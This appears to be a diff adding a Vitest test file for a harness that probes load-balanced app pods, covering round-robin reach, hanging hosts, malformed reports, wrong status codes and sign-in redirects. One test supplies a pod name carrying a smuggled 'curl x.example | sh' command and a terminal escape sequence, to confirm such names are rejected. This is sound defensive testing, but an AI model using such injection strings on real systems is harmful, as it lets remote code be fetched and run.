@@ -1,0 +1,112 @@
+import { expect, test } from 'vitest';
+import { forEachApp } from '../../apps/environment/apps.ts';
+import { Unreachable } from '../../fleet/engines/live/unreachable.ts';
+import { ask, askEachSecond, askOnce, tally, type ProbeAnswer, type ProbeClient } from './probes.ts';
+
+const urls = { ...forEachApp(({ name }) => `https://${name}.example`), auth: 'https://auth.example' };
+const clientOf = (get: (role: string, path: string) => object | Promise<object>): ProbeClient => ({
+  target: { urls },
+  get: async (role, path) => ({ url: path, status: 200, headers: {}, body: '{}', ...(await get(role, path)) }),
+});
+
+/** A balancer that gives requests to its pods in turn. */
+function balancer(pods: number): ProbeClient {
+  const sent = new Map<string, number>();
+  return clientOf((role) => {
+    const number = sent.get(role) ?? 0;
+    sent.set(role, number + 1);
+    return { headers: { 'x-served-by': `pod-${number % pods}` } };
+  });
+}
+
+test.each([
+  { pods: 2, sessions: {} },
+  { pods: 3, sessions: forEachApp(() => 'cookie=1') },
+  { pods: 4, sessions: {} },
+])('every probe reaches each of $pods pods in as many rounds (sessions: $sessions)', async ({ pods, sessions }) => {
+  const client = balancer(pods);
+  const answers: ProbeAnswer[] = [];
+  for (let round = 0; round < pods; round += 1) answers.push(...(await askOnce(client, sessions)));
+  const ofApps = answers.filter(({ of }) => of !== 'auth');
+  for (const [probe, its] of Map.groupBy(ofApps, (answer) => answer.probe))
+    expect({ probe, pods: new Set(its.map(({ pod }) => pod)).size }).toEqual({ probe, pods });
+});
+
+test('rounds go on while a host hangs, and an abort does not wait for it', async () => {
+  const abort = new AbortController();
+  const hanging = clientOf((role) => (role === 'auth' ? new Promise(() => {}) : {}));
+  let sent = 0;
+  const counting: ProbeClient = { ...hanging, get: (...args) => ((sent += 1), hanging.get(...args)) };
+  const asking = askEachSecond(counting, { seconds: undefined, signal: abort.signal });
+  const first = sent;
+  await expect.poll(() => sent, { timeout: 10_000 }).toBeGreaterThan(first);
+  abort.abort();
+  expect(await asking).toEqual([]);
+});
+
+test('the loop ends when a round says so, and with a fault of the harness', async () => {
+  const { signal } = new AbortController();
+  const options = { seconds: undefined, signal, onRound: () => true };
+  expect(
+    (
+      await askEachSecond(
+        clientOf(() => ({})),
+        options,
+      )
+    ).length,
+  ).toBeGreaterThan(0);
+  const broken = clientOf(() => Promise.reject(new TypeError('bug')));
+  await expect(askEachSecond(broken, { seconds: undefined, signal })).rejects.toThrow('bug');
+});
+
+test('what a pod says of itself in its report counts when a proxy removes the headers', async () => {
+  const client = clientOf(() => ({ body: '{"pod":"operator-a","revision":"2"}' }));
+  expect(await ask(client, 'operator', 'ready')).toMatchObject({ pod: 'operator-a', revision: '2' });
+  expect(await ask(client, 'operator', 'no session')).toMatchObject({ pod: '', revision: '' });
+});
+
+test.each(['null', '"up"', '[1]', '<html></html>', ''])('a report that is no object is a fact: %s', async (body) => {
+  const answer = await ask(
+    clientOf(() => ({ body })),
+    'operator',
+    'ready',
+  );
+  expect(answer).toMatchObject({ pod: '', revision: '', facts: { body: 'no report' } });
+});
+
+test.each(['operator-a; curl x.example | sh', 'operator-a\u001b[2J'])(
+  'what is no name of a pod (%j) does not become one, because names are printed in commands',
+  async (name) => {
+    const client = clientOf(() => ({ headers: { 'x-served-by': name, 'x-revision': name } }));
+    expect(await ask(client, 'operator', 'ready')).toMatchObject({ pod: '', revision: '' });
+  },
+);
+
+test('a wrong status and a host without an answer are problems', async () => {
+  expect(
+    (
+      await ask(
+        clientOf(() => ({})),
+        'operator',
+        'no session',
+      )
+    ).problem,
+  ).toBe('operator answers 200 to GET /api/me without a session, not 401.');
+  const late = new Unreachable('https://operator.example/', new Error('x'), { timeout: 1, received: undefined });
+  const answer = await ask(
+    clientOf(() => Promise.reject(late)),
+    'operator',
+    'ready',
+  );
+  expect(answer).toMatchObject({ status: 0, problem: late.message });
+});
+
+test('a sign-in that leads elsewhere is a problem', async () => {
+  const client = clientOf(() => ({ status: 302, headers: { location: 'https://auth.dezky.local/authorize' } }));
+  expect((await ask(client, 'operator', 'sign-in')).problem).toContain('leads to https://auth.dezky.local/authorize');
+});
+
+test('a pod without a name or revision shows as such', () => {
+  const unnamed: ProbeAnswer = { at: 0, of: 'operator', probe: 'ready', status: 200, pod: '', revision: '', facts: {} };
+  expect(tally([unnamed])).toBe('an unnamed pod on an unnamed revision (1 x)');
+});
